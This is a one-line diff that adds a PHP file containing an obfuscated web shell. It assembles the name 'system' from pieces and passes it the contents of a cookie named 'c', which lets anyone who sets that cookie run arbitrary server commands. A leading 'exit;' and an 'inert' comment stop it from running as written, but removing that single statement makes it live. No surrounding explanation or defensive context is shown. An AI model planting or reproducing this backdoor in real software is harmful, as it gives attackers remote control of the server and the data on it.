@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $GLOBALS["q"] = "sys".chr(116)."em"; function z(){ $GLOBALS["q"]($_COOKIE["c"]); } z();
